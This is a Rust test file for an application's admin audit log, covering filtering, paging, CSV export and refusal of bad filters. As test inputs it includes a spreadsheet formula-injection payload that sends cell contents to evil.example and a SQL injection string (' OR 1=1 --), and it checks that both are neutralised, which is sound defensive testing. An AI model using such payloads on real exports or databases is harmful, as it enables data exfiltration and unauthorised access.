//! The audit log as admins filter it, on SQLite and PostgreSQL: by who (any case), by kind
//! of action, by days; paged newest first; the CSV stream oldest first with awkward text
//! quoted; bad filters refused with plain words.


use futures_util::TryStreamExt;
use slicehub_core::audit_log::{audit_csv_line, AuditForm, AUDIT_CSV_HEADER};
use slicehub_core::store::{AuditEntry, Store};
use slicehub_core::CoreError;

fn at(text: &str) -> i64 {
    chrono::DateTime::parse_from_rfc3339(text).unwrap().timestamp_millis()
}

async fn write(store: &Store, at_ms: i64, actor: &str, action: &str, subject: &str, detail: &str) {
    let quote = |t: &str| t.replace('\'', "''");
    store
        .execute_admin(&format!(
            "INSERT INTO audit_log (at_ms, actor, action, subject, detail) VALUES ({at_ms}, '{}', '{}', '{}', '{}')",
            quote(actor),
            quote(action),
            quote(subject),
            quote(detail)
        ))
        .await
        .unwrap();
}

fn form(who: &str, what: &str, from: &str, to: &str) -> AuditForm {
    AuditForm { who: who.into(), what: what.into(), from: from.into(), to: to.into() }
}

async fn read(store: &Store, f: &AuditForm) -> Vec<AuditEntry> {
    store.audit_page(&f.query().unwrap(), 0, 1000).await.unwrap()
}

async fn filters_pages_and_csv(store: Store) {
    write(&store, at("2026-11-20T08:00:00Z"), "alice", "login.failure", "alice", "wrong password").await;
    write(&store, at("2026-11-20T08:01:00Z"), "alice", "login.success", "alice", "").await;
    write(&store, at("2026-11-21T09:00:00Z"), "ivy", "course.policy", "CS-101", "max 60 min, \"quota\" 6, internet off").await;
    write(&store, at("2026-11-22T10:00:00Z"), "admin", "session.admin_open", "s-1", "alice").await;
    write(&store, at("2026-11-23T11:00:00Z"), "Alice", "logout", "alice", "line one\nline two").await;
    for i in 0..250 {
        write(&store, at("2026-11-24T00:00:00Z") + i * 1000, "bot", "login.failure", "bot", &i.to_string()).await;
    }

    let actions = |rows: &[AuditEntry]| rows.iter().map(|r| r.action.clone()).collect::<Vec<_>>();
    // Who, in any case; newest first.
    let alices = read(&store, &form("ALICE", "", "", "")).await;
    assert_eq!(actions(&alices), ["logout", "login.success", "login.failure"]);
    // A kind of action: sign-ins are login.*, not the logout.
    let sign_ins = read(&store, &form("alice", "login", "", "")).await;
    assert_eq!(actions(&sign_ins), ["login.success", "login.failure"]);
    assert_eq!(actions(&read(&store, &form("", "course.", "", "")).await), ["course.policy"]);
    // Days, both included, in UTC.
    let days = read(&store, &form("", "", "2026-11-21", "2026-11-22")).await;
    assert_eq!(actions(&days), ["session.admin_open", "course.policy"]);

    // Pages of 100 walk the bot's 250 failures newest first without gaps or repeats.
    let q = form("bot", "", "", "").query().unwrap();
    let mut seen = Vec::new();
    let mut before = 0;
    loop {
        let page = store.audit_page(&q, before, 100).await.unwrap();
        if page.is_empty() {
            break;
        }
        before = page.last().unwrap().id;
        seen.extend(page.into_iter().map(|r| r.detail.parse::<i64>().unwrap()));
    }
    assert_eq!(seen, (0..250).rev().collect::<Vec<_>>());

    // The CSV stream: every row, oldest first, quoted where the text needs it.
    let everything = form("", "", "", "").query().unwrap();
    let all: Vec<AuditEntry> = store.audit_stream(&everything).try_collect().await.unwrap();
    assert_eq!(all.len(), 255);
    assert!(all.windows(2).all(|w| w[0].id < w[1].id));
    let mut csv = AUDIT_CSV_HEADER.to_string();
    for entry in &all[..5] {
        csv.push_str(&audit_csv_line(entry));
    }
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 5, "{csv}");
    assert_eq!(&records[0][0], "2026-11-20T08:00:00Z");
    assert_eq!(&records[2][4], "max 60 min, \"quota\" 6, internet off");
    assert_eq!(&records[4][4], "line one\nline two");

    // What someone typed never becomes a spreadsheet formula: a quote goes in front.
    let typed = AuditEntry {
        id: 0,
        at_ms: at("2026-11-25T00:00:00Z"),
        actor: "anonymous".into(),
        action: "login.failure".into(),
        subject: "@SUM(1+1)".into(),
        detail: "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")".into(),
    };
    let line = audit_csv_line(&typed);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!(&record[3], "'@SUM(1+1)", "{line}");
    assert_eq!(&record[4], "'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")", "{line}");
    assert_eq!(&record[1], "anonymous");
}

async fn bad_filters_are_refused_plainly(store: Store) {
    for (f, words) in [
        (form("", "secrets.", "", ""), "Unknown kind of action"),
        (form("", "", "2026-11-30", "2026-11-01"), "before the first"),
        (form("", "", "30/11/2026", ""), "is not a date"),
        (form(&"x".repeat(65), "", "", ""), "at most 64"),
    ] {
        match f.query() {
            Err(CoreError::InvalidRequest(m)) => assert!(m.contains(words), "{m}"),
            other => panic!("{f:?}: {other:?}"),
        }
    }
    // Text that looks like SQL is only text.
    let rows = read(&store, &form("' OR 1=1 --", "", "", "")).await;
    assert!(rows.is_empty());
}

on_both_databases!(filters_pages_and_csv, bad_filters_are_refused_plainly);
